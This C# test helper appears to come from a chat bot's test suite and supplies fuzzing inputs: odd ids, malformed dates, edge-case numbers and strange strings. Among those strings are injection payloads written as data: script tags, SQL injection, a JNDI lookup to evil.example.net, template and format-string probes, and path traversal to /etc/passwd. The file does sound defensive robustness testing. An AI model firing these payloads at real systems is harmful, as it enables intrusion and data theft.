namespace GpoBot.Tests.Hostile;

/// <summary>Texts that broke programs before, and texts that mean something here but not for whoever sends them.</summary>
internal static class NastyTexts
{
    /// <summary>References and ids of the demo department, of all its groups, and of none.</summary>
    public static readonly string[] Ids =
    [
        "S01", "S02", "S03", "S04", "S09", "S12", "T01", "T03", "T05", "s01", "S99", "@figures", "AC001", "AC002", "AC003", "AC011", "AC015", "AC020",
        "AC044", "AC050", "AC059", "AC9999999999", "AC-1", "PB01", "PB02", "PB03", "PB04", "PB10", "PB20", "PB999", "R-S01-24", "R-S01-01", "R-S02-11",
        "R-S09-1", "P01", "P05", "P07", "P10", "P31", "P40", "PN:S01", "PN:S01:D", "PN:S09", "H:000000000000", "FI001", "a.group", "u.audit.", "b.contact.P05",
    ];

    public static readonly string[] Dates =
    [
        "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "-2026-01-01", "+12026-01-01", "2026-11-24T09:30:00Z", "31/02/2026",
        "24/11/2026", "1/1/1", "2026-11-19", "2026-12-25", "1900-01-01", "2262-04-11", "99999-01-01", "20261124", "aujourd'hui", "25:61", "24:00", "09:30:00.9999999999",
    ];

    public static readonly string[] Numbers =
    [
        "-1", "0", "2147483647", "2147483648", "-2147483648", "9223372036854775808", "1e308", "1e999", "NaN", "Infinity", "0x10", "1.5", "1,5", "٣", "１２",
        "00000000000000000001", "-0", "1 000", "",
    ];

    public static readonly string[] Strange =
    [
        "\0", "a\0b", "\u0001\u0002\u001f", "\ufffe\uffff", "\u202e\u202dretourné", "\u200b\u200b", "e\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "𝕊𝟘𝟙", "ſ", "İ", "ß", "ﷺ",
        "<script>alert(1)</script>", "<at>GpoBot</at>", "<at>", "</at></at>", "[x](javascript:alert(1))", "![](https://evil.example.net/x.png)", "**", "`", "```", "> > >",
        "'; DROP TABLE rows;--", "' or 1=1 --", "\" or \"\"=\"", "${jndi:ldap://evil.example.net}", "{{7*7}}", "{0}", "{0:D999999999}", "%s%s%n", "%00", "../../../etc/passwd", "..\\..\\x",
        "C:\\CON", "/dev/null", "file:///etc/passwd", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "#?/\\", "a/b#c?d\\e", "\n", "\r\n\r\n", "BEGIN:VEVENT\r\nEND:VEVENT",
        "null", "undefined", "true", "[]", "{}", "\"", "\\", "\\u0000", "&#0;", "&lt;b&gt;", "]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a \"a\">]>",
        "https://evil.example.net/", "http://127.0.0.1:9/", "javascript:alert(1)", " ", "\u00a0", "\u2028", "\u2029", ".", "?", "!",
    ];

    public static string Of(Chance chance) => chance.Weighted(
        (6, (Func<string>)(() => chance.Of(Strange))), (5, () => chance.Of(Ids)), (3, () => chance.Of(Dates)), (3, () => chance.Of(Numbers)),
        (2, () => Long(chance)), (1, () => $"{chance.Of(Strange)}{chance.Of(Ids)}{chance.Of(Strange)}"))();

    /// <summary>Up to a hundred thousand of something small.</summary>
    private static string Long(Chance chance)
    {
        var part = chance.OneIn(2) ? chance.Of(Strange) : chance.Of(["a", "é", "a ", "le ", "S01 ", "mardi ", "et ", "9", "\n", "(", "[[", "a@", "M. "]);
        var count = chance.Of([300, 1_001, 5_000, 20_000, 50_000]) / part.Length;
        return string.Concat(Enumerable.Repeat(part, Math.Max(count, 1)));
    }
}
